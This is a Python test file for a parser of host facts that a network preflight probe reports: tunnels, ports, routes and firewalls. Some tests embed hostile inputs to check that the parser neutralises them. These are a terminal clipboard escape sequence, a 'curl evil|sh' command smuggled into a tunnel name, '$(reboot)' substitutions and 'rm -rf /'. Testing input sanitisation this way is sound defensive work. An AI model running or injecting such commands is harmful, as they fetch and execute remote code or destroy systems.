"""The probe's lines, read: whole or not at all."""

from ipaddress import IPv4Network

import pytest

from components.preflight.host_facts import Listener, PublicPorts, Route, TunnelFact, parse_facts
from reach.told import UNREADABLE
from settings import Ports, Protocol
from tests.components.sshd import facts_text


def test_every_line_is_read() -> None:
    facts = parse_facts(
        facts_text(
            "wg0 reverse-tunnel/home 51820 172.16.0.1/24",
            "wg1 reverse-tunnel/office - 172.17.0.4/24",
            "wg2 - - -",
            "wg3 reverse-tunnel/game 51823 172.19.0.1/24 ens6",
            "wg4 reverse-tunnel/play 51824 172.20.0.1/24 ens6 web:tcp:80 g-1:tcp+udp:27000-27003",
            missing="wireguard-tools conntrack",
            udp_ports="51820:wg0 53:named 123:",
            listeners="tcp:443:*:nginx udp:53:ens6:",
            routes="192.168.1.0/24@eth0 172.16.0.0/24@wg0 10.0.0.0/8@eth0:beyond",
            interfaces="lo eth0 wg0",
        )
    )
    assert facts.system == "Debian GNU/Linux 12 (bookworm)"
    assert (facts.systemd, facts.apt, facts.tun, facts.disk) == (True, True, True, 4096)
    assert facts.missing == ("wireguard-tools", "conntrack")
    assert facts.bash == (5, 2)
    assert facts.ping
    assert not parse_facts(facts_text(ping="no")).ping
    assert facts.default_interface == "ens6"
    assert facts.interfaces == {"lo", "eth0", "wg0"}
    assert facts.udp_ports == {51820: "wg0", 53: "named", 123: ""}
    assert facts.listeners == (
        Listener(Protocol.TCP, 443, None, "nginx"),
        Listener(Protocol.UDP, 53, "ens6", ""),
    )
    assert facts.routes == (
        Route(IPv4Network("192.168.1.0/24"), "eth0"),
        Route(IPv4Network("172.16.0.0/24"), "wg0"),
        Route(IPv4Network("10.0.0.0/8"), "eth0", beyond=True),
    )
    assert facts.tunnels == {
        "wg0": TunnelFact("reverse-tunnel/home", 51820, IPv4Network("172.16.0.0/24")),
        "wg1": TunnelFact("reverse-tunnel/office", None, IPv4Network("172.17.0.0/24")),
        "wg2": TunnelFact(None, None, None),
        "wg3": TunnelFact("reverse-tunnel/game", 51823, IPv4Network("172.19.0.0/24"), "ens6"),
        "wg4": TunnelFact(
            "reverse-tunnel/play",
            51824,
            IPv4Network("172.20.0.0/24"),
            "ens6",
            (
                PublicPorts("web", Protocol.TCP, Ports(80, 80)),
                PublicPorts("g-1", Protocol.BOTH, Ports(27000, 27003)),
            ),
        ),
    }


def test_firewalls_are_read_if_there_are_any() -> None:
    assert parse_facts(facts_text()).firewalls == {}
    assert parse_facts(facts_text()).zoned == frozenset()
    facts = parse_facts(facts_text(firewall="firewalld 22/tcp 60000:61000/udp", zoned="eth0 wg0"))
    assert facts.firewalls == {"firewalld": {"22/tcp", "60000:61000/udp"}}
    assert facts.zoned == {"eth0", "wg0"}


ESCAPE = "\x1b]52;c;aGk=\x07"


def test_a_name_that_is_none_is_left_out_or_told_as_unreadable() -> None:
    """Nobody is kept from going on by it."""
    facts = parse_facts(
        facts_text(
            f"{ESCAPE} reverse-tunnel/{ESCAPE} 51820 172.16.0.1/24 {ESCAPE}",
            "wg1 reverse-tunnel/x;curl${IFS}evil|sh 51821 172.17.0.1/24",
            "wg2 --cwd=/x/home 51822 172.18.0.1/24",
            os_name=f"Debian {ESCAPE}",
            missing=f"iptables {ESCAPE}",
            wireguard_go="1" * 5000,
            default_interface=ESCAPE,
            interfaces=f"lo {ESCAPE}",
            udp_ports=f"53:{ESCAPE}",
            listeners=f"tcp:443:{ESCAPE}:$(reboot)",
            routes=f"10.0.0.0/8@{ESCAPE}",
        )
    )
    assert facts.system == "Debian \ufffd]52;c;aGk=\ufffd"
    assert facts.missing == ("iptables", UNREADABLE)
    assert facts.wireguard_go == ""
    assert facts.default_interface == UNREADABLE
    assert facts.interfaces == {"lo"}
    assert facts.udp_ports == {53: UNREADABLE}
    assert facts.listeners == (Listener(Protocol.TCP, 443, UNREADABLE, UNREADABLE),)
    assert facts.routes == (Route(IPv4Network("10.0.0.0/8"), UNREADABLE),)
    assert facts.tunnels.keys() == {UNREADABLE, "wg1", "wg2"}
    assert {each.owner for each in facts.tunnels.values()} == {UNREADABLE}
    assert facts.tunnels[UNREADABLE].public == UNREADABLE


def test_what_is_told_a_line_each_is_not_told_without_end() -> None:
    """Else one host could push out of sight what is said of the others."""
    chains = [f"dropping=input inet filter in{number}\n" for number in range(1000)]
    assert len(parse_facts("".join(chains[:100]) + facts_text()).dropping) == 100
    facts = parse_facts("".join(chains) + facts_text())
    assert facts.dropping == parse_facts("".join(chains[:100]) + facts_text()).dropping


def test_a_systems_own_name_may_have_any_letters() -> None:
    for name in ("Größe\tLinux 3 (Übermut)", "a" * 80):
        assert parse_facts(facts_text(os_name=name)).system == name
    assert len(parse_facts(facts_text(os_name="a" * 81)).system) == 80


@pytest.mark.parametrize(("told", "there"), [(None, True), ("yes", True), ("no", False)])
def test_a_folder_for_metrics_is_missing_only_where_the_host_says_so(
    told: str | None, *, there: bool
) -> None:
    assert parse_facts(facts_text(metrics_folder=told)).metrics_folder == there


def test_a_newer_probe_may_say_more() -> None:
    assert parse_facts(facts_text() + "weather=fine\n") == parse_facts(facts_text())


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("", "no line says 'end'"),
        (facts_text(end=None), "no line says 'end'"),
        (facts_text(tun=None), "no line says 'tun'"),
        (facts_text(disk="much"), "garbled"),
        (facts_text(disk="-" + "1" * 400), "garbled"),
        (facts_text(udp_ports="http:nginx"), "garbled"),
        (facts_text(listeners="tcp:443:nginx"), "garbled"),
        (facts_text(listeners="sctp:443:*:nginx"), "garbled"),
        (facts_text(routes="somewhere@eth0"), "garbled"),
        (facts_text(routes="10.0.0.0/8@eth0:via"), "garbled"),
        (facts_text(routes=f"fd00::%{ESCAPE}/64@eth0"), "garbled"),
        (facts_text("wg0 home"), "garbled"),
        (facts_text("wg0 - - - ens6 web:tcp"), "garbled"),
        (facts_text("wg0 - - - ens6 web:icmp:80"), "garbled"),
        (facts_text("wg0 - - - ens6 web:tcp:80-"), "garbled"),
        (facts_text("wg0 - - - ens6 $(reboot):tcp:80"), "garbled"),
        (facts_text(firewall="ufw ssh"), "garbled"),
        (facts_text(firewall="pf 22/tcp"), "garbled"),
        (facts_text(dropping="forward inet f"), "garbled"),
        (facts_text(dropping="forward inet f $(reboot)"), "garbled"),
        (facts_text(dropping="forward inet f a $(reboot)"), "garbled"),
        (facts_text(dropping="forward inet f a wg?"), "garbled"),
        (facts_text(dropping="forward inet f a *wg"), "garbled"),
    ],
)
def test_what_is_incomplete_or_garbled_is_refused(text: str, says: str) -> None:
    with pytest.raises(ValueError, match=says):
        parse_facts(text)


def test_a_refusal_does_not_repeat_what_the_host_said() -> None:
    with pytest.raises(ValueError, match="garbled") as refused:
        parse_facts(facts_text(disk="\x1b[2J; rm -rf /"))
    assert "rm" not in str(refused.value)
